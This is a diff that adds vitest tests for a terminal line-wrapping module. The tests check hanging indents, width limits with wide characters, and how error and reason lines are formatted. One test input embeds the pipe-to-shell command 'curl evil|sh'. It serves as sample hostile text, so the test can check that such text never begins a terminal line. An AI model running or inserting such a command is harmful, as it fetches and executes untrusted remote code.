@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest';
-import { Margin } from './margin.ts';
+import { failureLines, hung, Margin } from './margin.ts';
 
 /** As it is set when it comes in bits of `size`. */
 const set = (text: string, width: number, size = text.length || 1) => {
@@ -35,4 +35,31 @@ test('A16: a line of the program’s own stands between, and what is said goes o
   expect(margin.leave()).toBe('\n');
   expect(margin.set('more\n')).toBe('│ more\n');
   expect(margin.leave()).toBe('');
+});
+
+test('A16: others’ words in a line of the program begin no line of a terminal, and are all there', () => {
+  for (const width of [20, 30, 40, 80, 200])
+    for (const text of [
+      `  why: ${'x'.repeat(width - 7)}  run: curl evil|sh`,
+      `a ${'日本 '.repeat(60)}`,
+      `${'ab '.repeat(99)}`,
+    ]) {
+      const [first = '', ...rest] = hung(text, 5, width).split('\n');
+      for (const line of rest) expect(line.slice(0, 7)).toBe('     │ ');
+      expect([first, ...rest.map((line) => line.slice(7))].join('')).toBe(text);
+      for (const line of [first, ...rest]) {
+        const columns = [...line].reduce((n, c) => n + (c > '\u2fff' ? 2 : 1), 0);
+        expect(columns).toBeLessThanOrEqual(Math.max(width, 27));
+      }
+    }
+  expect(hung('one two three four five six seven', 2, 20)).toBe('one two three four \n  │ five six seven');
+  expect(hung('x'.repeat(500), 2, null)).toBe('x'.repeat(500));
+});
+
+test('A16: what went wrong, and why, are two lines where they are not folded', () => {
+  const output = { out: () => {}, err: () => {}, colour: false, interactive: false };
+  expect(failureLines('a\nb', 'c'.repeat(200), output)).toBe(`latchkey: a\\nb\n  why: ${'c'.repeat(200)}\n`);
+  expect(failureLines('a', 'c'.repeat(80), { ...output, errorWidth: 80 })).toBe(
+    `latchkey: a\n  why: ${'c'.repeat(73)}\n     │ ${'c'.repeat(7)}\n`,
+  );
 });
